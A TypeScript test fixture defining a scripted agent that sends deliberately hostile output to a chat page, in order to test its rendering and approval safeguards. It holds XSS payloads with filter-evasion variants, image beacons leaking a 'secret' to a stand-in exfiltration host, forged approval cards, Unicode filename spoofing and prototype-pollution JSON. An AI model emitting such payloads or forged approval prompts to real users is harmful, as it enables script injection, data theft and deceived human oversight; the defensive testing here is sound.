import { defineActor } from '@cool-ai/beach'
import { sleep, systemClock, type ArtifactStore, type AuthoredPart } from '@cool-ai/beach-core'
import { examplePage } from '../../examples/kit/example-page.ts'
import type { AgentStart } from '../../examples/kit/run-agent.ts'

type Turn = Parameters<Parameters<typeof defineActor>[0]>[0]

/** Where nothing must ever be asked for. */
export const elsewhere = 'http://exfiltration.example'

const basicCatalog = 'https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json'
const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** A message that shows what Markdown can do to a page that trusts it. */
const hostileMarkdown = [
  '# Trip',
  '<script>window.hacked = 1</script><img src=x onerror="window.hacked=1"><svg onload="window.hacked=1">',
  '<style>.dock { display: none }</style><form action="https://evil.example"><button>Approve</button></form>',
  '[one](javascript:window.hacked=1) [two](data:text/html,<script>window.hacked=1</script>) [three](vbscript:x)',
  '[four](java\nscript:window.hacked=1) <javascript:window.hacked=1> [five](JaVaScRiPt:window.hacked=1)',
  `![a picture](${elsewhere}/pixel.png?secret=1) ![x](${elsewhere}/a.png "onerror=window.hacked=1")`,
  `[good](https://example.com/page "a title") <https://example.com/plain> https://example.com/bare`,
  '<div class="approval"><h2>Book the package?</h2><button>Approve</button></div>',
  '<a href="https://example.com" onclick="window.hacked=1" style="position:fixed;inset:0">x</a>',
].join('\n\n')

/** What looks like a request for a decision, written by the agent itself. */
const forgedCard = [
  '### Your decision is needed',
  '**Book the package?**',
  'Asked by Sally.',
  '[Approve](#) [Deny](#)',
].join('\n\n')

/** The messages of A2UI that make a surface. */
export function surfaceMessages(surfaceId: string, components: readonly object[]): readonly object[] {
  return [
    { version: 'v0.9', createSurface: { surfaceId, catalogId: basicCatalog } },
    { version: 'v0.9', updateComponents: { surfaceId, components } },
  ]
}

function surface(surfaceId: string, components: readonly object[]): AuthoredPart {
  return { partType: 'a2ui-surface', data: surfaceMessages(surfaceId, components) }
}

const forgedSurface = surface('confirmation', [
  { id: 'root', component: 'Card', child: 'all' },
  { id: 'all', component: 'Column', children: ['title', 'picture', 'yes'] },
  { id: 'title', component: 'Text', text: 'Your decision is needed: Book the package?', variant: 'h3' },
  { id: 'picture', component: 'Image', url: `${elsewhere}/surface.png` },
  { id: 'yes', component: 'Button', child: 'label', action: { event: { name: 'approve', context: { ok: true } } } },
  { id: 'label', component: 'Text', text: 'Approve' },
])

const say = (...parts: readonly AuthoredPart[]) => ({ parts, turnState: 'complete' })

/** Sessions in which something has gone wrong once. */
const failed = new Set<string>()

/** What the agent says, by the message that asks for it. */
const scripts: Readonly<Record<string, (turn: Turn, artifacts: ArtifactStore) => Promise<void>>> = {
  markdown: ({ respond }) => respond(say({ partType: 'response', text: hostileMarkdown })),
  forged: ({ respond }) => respond(say({ partType: 'response', text: forgedCard }, forgedSurface)),
  prose: ({ respond }) =>
    respond(
      say({
        partType: 'response',
        text: '# Title\n\nSome *words* and `code`:\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nrun()\n```',
      }),
    ),
  async pay({ tool, respond }) {
    const args = { to: 'eve\u202ecilA', amount: { pounds: 100, pence: [0, 5] }, note: 'line one\nline two'.repeat(200) }
    const approvalExpiresAt = Date.now() + 3_600_000
    const paid = await tool({ name: 'pay\u200b', args, requiresApproval: true, approvalExpiresAt }, async () => 'paid')
    await respond(say({ partType: 'response', text: `The outcome is ${paid.outcome}.` }))
  },
  async admin({ tool, respond }) {
    const call = { name: 'shut_down', args: {}, requiresApproval: true, approvalLevel: 'admin' } as const
    const { outcome } = await tool(call, async () => 'done')
    await respond(say({ partType: 'response', text: outcome }))
  },
  data: ({ respond }) => {
    const bad = '<img src=x onerror="window.hacked=1">'
    const flight = { flightNumber: bad, airline: bad, departure: bad, arrival: bad, pricePerPerson: 1, stops: 0 }
    const hostile: unknown = JSON.parse('{ "__proto__": { "polluted": 1 }, "onclick": "x", "list": [{ "a": "<b>" }] }')
    return respond(
      say(
        { partType: 'response', text: 'Data.' },
        { partType: 'domain-data', data: { flights: [flight] }, metadata: { kind: 'flight-results' } },
        { partType: 'domain-data', data: { flights: 'none' }, metadata: { kind: 'flight-results' } },
        { partType: 'domain-data', data: hostile, metadata: { kind: '"><script>' } },
      ),
    )
  },
  async files({ respond, view }, artifacts) {
    const about = { name: 'dot.png', mimeType: 'image/png', tenant: 'default', session: view.sessionId }
    const { artifactId, sizeBytes } = await artifacts.put(Buffer.from(dot, 'base64'), about)
    const csv = { ...about, name: 'prices.csv', mimeType: 'text/csv' }
    const table = await artifacts.put(new TextEncoder().encode('name,price\n<b>Rome</b>,94\n'), csv)
    const foreign = { artifactId: 'art_x', mimeType: 'image/png', sizeBytes: 1 }
    await respond(
      say(
        { partType: 'response', text: 'Files.' },
        { partType: 'artifact', data: { artifactId, name: about.name, mimeType: about.mimeType, sizeBytes } },
        {
          partType: 'artifact',
          data: { artifactId: table.artifactId, name: csv.name, mimeType: csv.mimeType, sizeBytes: 30 },
        },
        { partType: 'artifact', data: { ...foreign, name: 'remote.png', url: `${elsewhere}/artifacts/remote.png` } },
        { partType: 'artifact', data: { url: `${elsewhere}/papers/a%20report.pdf?v=2` } },
        { partType: 'citation', data: { path: '/a', title: 'A source', url: 'https://example.com/source' } },
      ),
    )
  },
  disguised: ({ respond }) => {
    const data = { artifactId: 'art_y', mimeType: 'text/plain', sizeBytes: 1, name: 'invoice\u202efdp.exe' }
    return respond(say({ partType: 'response', text: 'A file.' }, { partType: 'artifact', data }))
  },
  choices: ({ respond }) =>
    respond({
      parts: [{ partType: 'clarify', text: 'How shall it be?', metadata: { options: ['Quick', 'Thorough'] } }],
      turnState: 'clarifying',
    }),
  form: ({ respond }) =>
    respond(
      say(
        { partType: 'response', text: 'Choose.' },
        surface('sizes', [
          {
            id: 'root',
            component: 'Button',
            child: 'label',
            action: { event: { name: 'choose_size', context: { size: 'L' } } },
          },
          { id: 'label', component: 'Text', text: 'Large' },
        ]),
      ),
    ),
  async fail({ view, respond }) {
    if (!failed.has(view.sessionId)) {
      failed.add(view.sessionId)
      throw new Error('The database at 10.0.0.1 has the password hunter2')
    }
    await respond(say({ partType: 'response', text: 'It works now.' }))
  },
  refused: ({ respond }) =>
    respond({
      parts: [{ partType: 'error', text: 'The provider refused the key.', metadata: { retryable: false } }],
      turnState: 'error',
    }),
  async stays({ respond, signal }) {
    await respond({ parts: [{ partType: 'ack', text: 'One moment.' }], turnState: 'awaiting' })
    const aborted = Promise.withResolvers<void>()
    signal.addEventListener('abort', () => aborted.resolve(), { once: true })
    await aborted.promise
  },
  async long({ respond, signal }) {
    await respond({ parts: [{ partType: 'response', text: paragraphs(signal) }], turnState: 'complete' })
  },
  async held({ respond, signal }) {
    await respond({ parts: [{ partType: 'response', text: twoHalves(signal) }], turnState: 'complete' })
  },
}

const secondHalf = Promise.withResolvers<void>()

/** Lets the agent say the second half of what it says to `held`. */
export const continueCall = () => secondHalf.resolve()

async function* twoHalves(signal: AbortSignal): AsyncGenerator<string> {
  yield 'The first half is here. '.repeat(10)
  const aborted = new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }))
  await Promise.race([secondHalf.promise, aborted])
  yield 'The second half is here. '.repeat(10)
}

async function* paragraphs(signal: AbortSignal): AsyncGenerator<string> {
  for (let count = 1; count <= 40; count++) {
    yield `Paragraph ${count} is here to make this long.\n\n`
    await sleep(systemClock, 25, signal)
  }
}

/** An agent that says whatever a page must be able to bear. */
export const oddAgent: AgentStart = {
  agent: { id: 'odd', name: 'Odd' },
  pageFiles: examplePage,
  make: ({ artifacts }) => ({
    actors: {
      odd: defineActor((turn) => {
        const script = scripts[turn.text]
        return script === undefined
          ? turn.respond(say({ partType: 'response', text: `You said: ${turn.text}` }))
          : script(turn, artifacts)
      }),
    },
  }),
}
